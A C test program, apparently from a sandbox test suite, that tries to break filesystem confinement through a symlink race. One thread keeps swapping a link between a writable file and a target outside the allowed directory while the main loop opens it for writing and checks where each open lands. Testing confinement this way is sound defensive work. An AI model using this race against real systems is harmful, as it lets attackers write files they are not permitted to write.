// Another thread swaps a link beneath /tmp between a file that may be written and one that may not.
#define _GNU_SOURCE
#include <pthread.h>
#include "../attack.h"

static volatile int enough;
static void* swap(void* nothing) {
  while (!enough) {
    renameat2(AT_FDCWD, in(inside, "link"), AT_FDCWD, in(inside, "other"), RENAME_EXCHANGE);
  }
  return nothing;
}
static long race(int rounds, const char* path) {
  pthread_t thread;
  int won = 0, fine = 0;
  char name[64], target[1024];
  closed(open(in(inside, "a"), O_CREAT | O_WRONLY, 0600));
  if (symlink(in(inside, "a"), in(inside, "link")) != 0) return -1;
  if (symlink(in(outside, "target"), in(inside, "other")) != 0) return -1;
  if (pthread_create(&thread, NULL, swap, NULL) != 0) return -1;
  for (int i = 0; i < rounds && won == 0; ++i) {
    const int fd = open(path, O_WRONLY);
    if (fd < 0) continue;
    snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
    memset(target, 0, sizeof(target));
    if (readlink(name, target, sizeof(target) - 1) > 0)
      won += strncmp(target, outside, strlen(outside)) == 0;
    ++fine;
    close(fd);
  }
  enough = 1;
  pthread_join(thread, NULL);
  errno = fine > 0 ? EACCES : EIO;
  return won > 0 ? 0 : -1;
}
static long try_link(void) {
  char path[1024];
  snprintf(path, sizeof(path), "%s/link", inside);
  return race(50000, path);
}

static const struct act acts[] = {
    ACT(link),
    {NULL, NULL},
};

int main(int argc, char** argv) { return attack(argc, argv, acts); }
